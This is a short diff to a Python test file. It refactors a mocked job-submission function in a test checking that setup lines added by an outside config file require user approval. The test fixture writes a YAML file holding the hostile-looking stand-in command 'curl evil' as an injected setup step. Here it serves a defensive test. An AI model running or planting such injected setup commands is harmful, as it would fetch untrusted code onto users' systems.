@@ -158,7 +158,12 @@ def test_jobs_are_submitted_once_and_the_report_follows(asked: list[Any], monkey
 
 def test_lines_that_a_file_adds_to_jobs_want_a_yes(asked: list[Any], monkeypatch: pytest.MonkeyPatch) -> None:
     submitted: list[Jobs] = []
-    monkeypatch.setattr(Jobs, "submit", lambda jobs: submitted.append(jobs) or "41")
+
+    def submit(jobs: Jobs) -> str:
+        submitted.append(jobs)
+        return "41"
+
+    monkeypatch.setattr(Jobs, "submit", submit)
     file = Path("theirs.yaml")
     file.write_text("executor: slurm\nsetup: [curl evil]\n")
     words = ("reproduce", "figure1", "--model", "bundled", "--small", "--detach", "--config", file)
